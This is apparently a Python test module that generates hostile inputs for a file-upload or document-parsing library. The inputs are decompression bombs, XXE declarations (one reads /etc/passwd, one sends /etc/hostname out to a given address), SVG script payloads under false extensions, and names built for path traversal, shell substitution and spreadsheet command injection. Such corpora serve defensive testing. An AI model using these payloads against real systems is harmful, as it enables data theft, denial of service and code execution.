"""The classes of bad files by number: forty bombs, sixty declarations, fifty drawings, sixty names."""

from __future__ import annotations

import struct
import zlib
from collections.abc import Callable, Iterator
from functools import lru_cache, partial
from typing import Final

from ronguon.files.tests.hostile import ZIP, HostileFile
from ronguon.files.tests.making import (
    Item,
    archive,
    chunk,
    docx,
    docx_items,
    jpeg,
    odt,
    pdf,
    png,
    segment,
    stream,
    swollen,
    xlsx,
)
from ronguon.files.tests.zip_corpus import REFUSED as BAD_ARCHIVES

MIB: Final = 1024 * 1024


def _file(name: str, make: Callable[[], bytes], why: str, code: str | None = "bomb") -> HostileFile:
    return HostileFile(name, make, why, code)


@lru_cache(maxsize=8)
def _blanks(size: int) -> tuple[bytes, int]:
    """Return `size` blanks as they are packed, and their checksum."""
    crc = 0
    for _ in range(size // MIB):
        crc = zlib.crc32(b" " * MIB, crc)
    return swollen(size), crc


def _members(size: int, *places: str) -> bytes:
    packed, crc = _blanks(size)
    stated: dict[str, int | bytes] = {"size": size, "crc": crc}
    parts = [Item(place, payload=packed, local=stated, central=stated) for place in places]
    return archive([*docx_items(), *parts])


def _flate(size: int, *, times: int = 1, entries: bytes | None = None) -> bytes:
    data = bytes(size)
    for _ in range(times):
        data = zlib.compress(data, 9)
    filters = entries or b"/Filter" + (b"/FlateDecode" if times == 1 else b"[" + b"/FlateDecode" * times + b"]")
    return pdf(stream(data, filters))


def _pixels(width: int, height: int, depth: int = 8, colour: int = 6) -> bytes:
    head = chunk(b"IHDR", struct.pack(">LLBBBBB", width, height, depth, colour, 0, 0, 0))
    return b"\x89PNG\r\n\x1a\n" + head + chunk(b"IDAT", zlib.compress(bytes(100))) + chunk(b"IEND", b"")


def bombs() -> list[HostileFile]:
    """Return forty files that are small and would be enormous once opened."""
    found = [
        _file("a.docx", partial(_members, size * MIB, place), f"{size} MiB in {place}")
        for size in (65, 100, 201, 400)
        for place in ("word/footnotes.xml", "word/media/a.png", "customXml/item1.xml")
    ]
    found += [
        _file(
            "a.docx",
            partial(_members, size * MIB, *(f"word/media/{n}.bin" for n in range(number))),
            f"{number} members of {size} MiB",
        )
        for size, number in ((1, 220), (2, 120), (10, 30), (50, 5))
    ]
    found += [
        _file("a.docx", BAD_ARCHIVES["2,001 members"], "2,001 members"),
        _file("a.docx", BAD_ARCHIVES["30 MiB that say they are 100 bytes"], "an understated size", "archive"),
        _file("a.docx", BAD_ARCHIVES["a member hidden in another's packed bytes"], "overlapping members", "archive"),
        _file("a.docx", BAD_ARCHIVES["two entries for one member"], "one member listed twice", "archive"),
        _file("a.docx", lambda: docx(Item("word/media/a.png", ZIP)), "an archive in an archive", "embedded"),
        _file("a.xlsx", lambda: xlsx(Item("_rels/more.rels", b"<a/>".ljust(3 * MIB))), "relations of 3 MiB"),
        _file("a.odt", lambda: odt(manifest=b"<a/>".ljust(3 * MIB)), "a manifest of 3 MiB"),
        _file("a.pdf", lambda: _flate(66 * MIB), "a stream of 66 MiB"),
        _file("a.pdf", lambda: _flate(100 * MIB), "a stream of 100 MiB"),
        _file("a.pdf", lambda: _flate(20 * MIB, times=2), "packed twice"),
        _file("a.pdf", lambda: _flate(20 * MIB, times=3), "packed three times"),
        _file("a.pdf", lambda: _flate(66 * MIB, entries=b"/Filter/Fl"), "a stream by its short name"),
        _file("a.pdf", lambda: pdf(*[stream(zlib.compress(bytes(30 * MIB), 9), b"/Filter/FlateDecode")] * 40),
              "40 streams of 30 MiB"),
        _file("a.pdf", lambda: pdf(stream(zlib.compress(bytes(40 * MIB), 9),
              b"/Type/ObjStm/N 1/First 4/Filter/FlateDecode")), "an object stream of 40 MiB"),
    ]  # fmt: skip
    found += [
        _file("a.png", partial(_pixels, w, h), f"{w} by {h} pixels", "pixels")
        for w, h in ((9_000, 9_000), (12_000, 12_000), (20_000, 20_000), (1, 24_000_001), (2**31 - 1, 2**31 - 1))
    ]
    found += [
        _file("a.png", lambda: png(8, 8, chunk(b"iCCP", b"a\0\0" + zlib.compress(bytes(50 * MIB)))),
              "a profile of 50 MiB"),
        _file("a.jpg", lambda: jpeg(width=65_500, height=65_500), "a photo of 4 thousand million pixels", "pixels"),
        _file("a.jpg", lambda: jpeg(*[segment(0xEC, b"x")] * 5_000), "5,000 segments"),
        _file("a.docx", lambda: docx(Item("word/styles.xml", b"<!DOCTYPE a [" + b"".join(
            b'<!ENTITY %c "%s">' % (97 + n, b"&%c;" % (96 + n) * 10) for n in range(1, 10)) + b"]><a>&j;</a>")),
            "a thousand million laughs", "dtd"),
        _file("a.docx", lambda: docx(Item("word/styles.xml", b'<!DOCTYPE a [<!ENTITY a "%s">]><a>%s</a>' % (
            b"x" * 50_000, b"&a;" * 20_000))), "one entity twenty thousand times", "dtd"),
    ]  # fmt: skip
    return found


def declarations(address: str) -> list[HostileFile]:
    """Return sixty files whose XML declares something, most of it to be fetched from `address`."""
    declared = {
        "an outer entity": f'<!DOCTYPE a [<!ENTITY x SYSTEM "{address}/a">]><a>&x;</a>',
        "a local file": '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>',
        "an outer set": f'<!DOCTYPE a SYSTEM "{address}/a.dtd"><a/>',
        "a public set": f'<!DOCTYPE a PUBLIC "-//A//B" "{address}/a.dtd"><a/>',
        "a parameter entity": f'<!DOCTYPE a [<!ENTITY % x SYSTEM "{address}/a"> %x;]><a/>',
        "a parameter that builds another": (
            f'<!DOCTYPE a [<!ENTITY % f SYSTEM "file:///etc/hostname"><!ENTITY % e "<!ENTITY &#37; s SYSTEM '
            f"'{address}/?%f;'>\"> %e; %s;]><a/>"
        ),
        "an entity within": '<!DOCTYPE a [<!ENTITY x "y">]><a>&x;</a>',
        "laughs": '<!DOCTYPE a [<!ENTITY x "ha"><!ENTITY y "&x;&x;"><!ENTITY z "&y;&y;">]><a>&z;</a>',
        "an empty set": "<!DOCTYPE a><a/>",
        "a set behind a remark": f'<!-- b --><!DOCTYPE a [<!ENTITY x SYSTEM "{address}/a">]><a>&x;</a>',
        "a set far behind": f"<!--{'-. ' * 90_000}--><!DOCTYPE a SYSTEM '{address}/a'><a/>",
        "a set in two bytes a letter": f'<!DOCTYPE a [<!ENTITY x SYSTEM "{address}/a">]><a>&x;</a>',
    }
    containers: dict[str, Callable[[bytes], bytes]] = {
        "docx": lambda xml: docx(Item("word/comments.xml", xml)),
        "xlsx": lambda xml: xlsx(Item("xl/sharedStrings.xml", xml)),
        "odt": lambda xml: odt(content=xml),
        "svg": lambda xml: xml.replace(b"<a", b"<svg"),
        "xml": lambda xml: xml,
    }
    found = []
    for why, text in declared.items():
        coded = text.encode("utf-16" if "two bytes" in why else "utf-8")
        for end, wrap in containers.items():
            found.append(HostileFile(f"a.{end}", partial(wrap, coded), f"{why} in {end}", None))
    return found


def _drawn(act: str) -> bytes:
    return f'<svg xmlns="http://www.w3.org/2000/svg">{act}</svg>'.encode()


def drawings() -> list[HostileFile]:
    """Return fifty drawings that act, under their own name and under others."""
    acts = (
        "<script>alert(1)</script>", '<g onload="alert(1)"/>', '<a href="javascript:alert(1)"><text>x</text></a>',
        '<image href="http://example.org/a.png"/>', "<foreignObject><iframe src='//example.org'/></foreignObject>",
        '<use href="data:image/svg+xml;base64,PHN2Zy8+"/>', '<animate attributeName="href" to="javascript:alert(1)"/>',
        "<style>@import url(//example.org/a.css)</style>", '<set attributeName="onload" to="alert(1)"/>', "",
    )  # fmt: skip
    names = ("a.svg", "a.png", "a.jpg", "a.txt", "a.svg.pdf")
    return [
        HostileFile(
            name,
            partial(_drawn, act),
            f"{act} as {name}",
            None,
        )
        for act in acts
        for name in names
    ]


def names() -> list[str]:
    """Return sixty names that would hurt a disk, a header, a page or a reader's eyes."""
    climbs = ("../", "../../../../etc/", "..\\..\\", "/etc/cron.d/", "C:\\Windows\\", "\\\\a\\b\\", "./", "~/")
    unseen = "\0\r\n\t\x1b\x7f\x85\u2028\u2029\u202a\u202b\u202d\u202e\u2066\u200b\u200d\ufeff\u00ad"
    marks = ('"', "'", ";", ":", "*", "?", "<", ">", "|", "%0d%0a", "%00", "\\", "${x}", "`id`")
    found = [f"{up}a.txt" for up in climbs]
    found += [f"a{mark}b.txt" for mark in (*unseen, *marks)]
    found += [f"{word}.txt" for word in ("CON", "NUL", "LPT1", "", ".", "..", "...", " ", "-rf", "\ud800")]
    found += ["Đ" * 300 + ".txt", "a" * 255 + ".txt", "ke\u0302\u0301.txt", "<img src=x onerror=alert(1)>.txt"]
    found += ["=cmd|' /C calc'!A0.txt", "a.txt\0.exe.txt", "a.txt ", "a.txt.", "hoá đơn\u202efdp.txt", "🙂.txt"]
    return found


def zip_classes() -> Iterator[tuple[str, int]]:
    """Yield how many archives of the corpus stand for each class."""
    classes = {
        "beside": ("before", "after the end", "comment", "gap", "two archives", "bytes between", "room to hide"),
        "headers that differ": ("another ", "one header only", "that are others", "said by"),
        "directory": ("entries", "entry", "directory", "count", "disk", "does not list", "wide"),
        "names": ("name", "link", "folder"),
        "packing": ("method", "packed", "stream", "checksum", "stored", "size larger", "torn", "noise"),
        "locked": ("password", "encryption"),
        "bombs": ("MiB", "2,001"),
    }
    left = dict(BAD_ARCHIVES)
    for label, marks in classes.items():
        own = [why for why in left if any(mark in why for mark in marks)]
        for why in own:
            del left[why]
        yield label, len(own)
    if left:
        raise LookupError(f"in no class: {sorted(left)}")
